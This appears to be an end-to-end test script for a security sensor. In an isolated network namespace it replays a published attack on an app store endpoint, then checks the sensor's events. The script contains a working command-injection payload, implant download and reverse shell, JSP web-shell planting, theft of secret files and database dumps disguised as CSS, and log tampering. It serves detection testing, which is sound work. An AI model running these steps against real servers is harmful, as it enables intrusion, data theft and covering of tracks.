#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The attack on a staff directory as it was published, step by step (A1 to A10), against Debian's
# Apache and Tomcat: in a root directory and a network of its own, which end with this process. Then
# attack/expected.py asks whether each step is among the sensor's events, every field right.
set -u
cd "$(dirname "$0")/../.." || exit 1
[ "${1:-}" = inside ] || exec unshare --mount --net --propagation private "$0" inside
project=$PWD
server=198.51.100.10 attacker=203.0.113.7 resolver=192.0.2.53 inner=10.20.0.5
. tests/e2e/attack/root.sh
root_enter
root_network
people=${PEOPLE:-5000}
. tests/e2e/servers.sh
. tests/e2e/attack/servers.sh
httpd='' tomcat='' outside=''
trap 'web_stop; [ -z "$outside" ] || kill "$outside"; cleanup' EXIT

# ---- what the attacker does ----
fact() { echo "$1 ${*:2}" >>"$dir/facts"; }
fact_file() { # NAME PATH: inode and size, as the system says
	fact "$1_ino" "$(stat -c %i "$2")"
	fact "$1_size" "$(stat -c %s "$2")"
}
outside_says() { # NAME: waits until the attacker's side has learned it
	for _ in $(seq 200); do grep -q "^$1 " "$dir/outside" && return; sleep 0.05; done
	echo "nothing was heard of $1"
	cat "$dir/outside" "$dir/facts" /mi/httpd/error_log "$access_log" "$dir/httpd.log"
	exit 1
}
get() { # OUTPUT URL [OPTION...]: from the attacker's address; prints status and local port
	curl -s -g --interface "$attacker" -o "$1" -w '%{http_code} %{local_port}' "http://$server$2" "${@:3}"
}
escaped() { jq -rn --arg s "$1" '$s | @uri'; }
# The comparison wants a number for an index: a command's own output would end the helper.
inject() { # STEP COMMAND: by the app store's address
	local got
	got=$(get /dev/null "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=$(escaped "gPath[\`{ $2; } >/dev/null; echo 1\`]")/e2327851.ipa")
	fact "$1_status" "${got% *}"
	fact "$1_port" "${got#* }"
}
webshell() { # STEP COMMAND: by the web shell; what it prints is in $dir/said
	local got
	got=$(get "$dir/said" "/mifs/403.jsp" -d "k=$(escaped "$(base64 -w0 <<<"/usr/bin/env /bin/sh -p -c '$2'")")")
	fact "$1_status" "${got% *}"
	fact "$1_port" "${got#* }"
	fact "$1_exit" "$(head -1 "$dir/said")"
}

# ---- preparation ----
servers_start
servers_fill
product_files
product_tables
mkdir "$dir/class"
"$java" -cp /usr/share/java/eclipse-jdt-core.jar org.eclipse.jdt.internal.compiler.batch.Main -proc:none -17 \
	-d "$dir/class" tests/e2e/attack/Info.java || exit 1
python3 tests/e2e/attack/outside.py "$resolver" "$attacker" "$inner" build/tests/e2e/attack/implant >"$dir/outside" &
outside=$!
for _ in $(seq 200); do grep -q ready "$dir/outside" && break; sleep 0.05; done
cat >"$dir/sensor.yaml" <<-END
	watch: [mariadb:mifs.mi_user, mariadb:mifs.mifs_ldap_users]
	files:
	  web_roots: [/mi/tomcat/webapps]
	  secrets: [/mi/files/system, /mi/tomcat-properties]
	  logs: [/var/log/httpd]
	processes:
	  watch: [/usr/sbin/apache2, $java]
	policy: {rules: $(pwd)/policy/rules}
END
"$sensor" --stdout --config "$dir/sensor.yaml" --resolved "" >"$dir/events" 2>"$dir/sensor.log" &
sensor_pid=$!
for _ in $(seq 400); do grep -q '"event":"ready"' "$dir/events" && break; sleep 0.05; done
web_start
fact httpd "$httpd"
fact tomcat "$tomcat"
fact mariadb "$maria"
fact helper "$(pgrep -P "$httpd" -x map-appstore-ur)"
fact helper_pipe "$(stat -L -c %i "/proc/$(pgrep -P "$httpd" -x map-appstore-ur)/fd/0")"

# ---- A1 to A10 ----
label=$(od -An -N16 -tx1 /dev/urandom | tr -d ' \n')
fact label "$label"
inject a1 "id"
inject a2 "sleep 5"
inject a2dns "nslookup $label.oast.example"
outside_says dns_port
inject a3 "curl -s -o /tmp/slt http://$attacker/slt"
fact_file slt /tmp/slt
inject a3mode "chmod +x /tmp/slt"
inject a3shell "/tmp/slt shell $attacker 443"
outside_says shell_id
inject a4 "echo $(base64 -w0 tests/e2e/attack/403.jsp) | base64 -d >$web/403.jsp"
fact_file jsp "$web/403.jsp"
got=$(get /dev/null /mifs/403.jsp --data-urlencode "k0f53cf964d387=$(base64 -w0 "$dir/class/base/Info.class")")
fact a4get_status "${got% *}"
fact_file class "$(find /mi/tomcat -name _403_jsp.class)"
webshell a5 'id'
webshell a6 'cat /mi/files/system/.mifpp'
fact_file mifpp /mi/files/system/.mifpp
webshell a6tar 'tar -czf /tmp/f.tgz /mi/files/system /mi/tomcat-properties'
webshell tunnel "/tmp/slt tunnel $attacker 7000 $inner 389"
outside_says inner_got
webshell a7 "mysqldump --no-defaults -S $dir/my/sock -uapp -ppw mifs mi_user mifs_ldap_users mifs_ldap_server_config >$web/css/mibasecss.css"
fact_file css "$web/css/mibasecss.css"
webshell a8 "cd $web/css; tar -czvf mibasecss2.css mibasecss.css"
fact_file css2 "$web/css/mibasecss2.css"
webshell a8again "cd $web/css; tar -czvf mibasecss3.css mibasecss.css"
fact_file css3 "$web/css/mibasecss3.css"
got=$(get "$dir/fetched" /mifs/css/mibasecss2.css)
fact a9_status "${got% *}"
fact a9_port "${got#* }"
fact fetched "$(stat -c %s "$dir/fetched")"
fact same "$(cmp "$dir/fetched" "$web/css/mibasecss2.css" && echo 1)"
fact_file log "$access_log"
webshell a10 "rm -f $web/css/mibasecss*"
webshell a10time "touch -r $web/index.html $web/403.jsp"
fact times "$(stat -c %Y "$web/403.jsp")"
webshell a10log "sed -i /403.jsp/d $access_log"
webshell a10cut ": >$access_log"
webshell a10rm "rm $access_log"
web_stop
sensor_stop
kill "$outside"
outside=
grep ' ' "$dir/outside" >>"$dir/facts"
for name in people server attacker resolver inner web java dir access_log; do fact "$name" "${!name}"; done

# ---- what the sensor saw ----
if [ -n "${KEEP_EVENTS:-}" ]; then # a directory
	cp "$dir/events" "$dir/facts" "$dir/sensor.log" "$KEEP_EVENTS/"
fi
python3 tests/e2e/attack/expected.py "$dir/facts" "$dir/events"
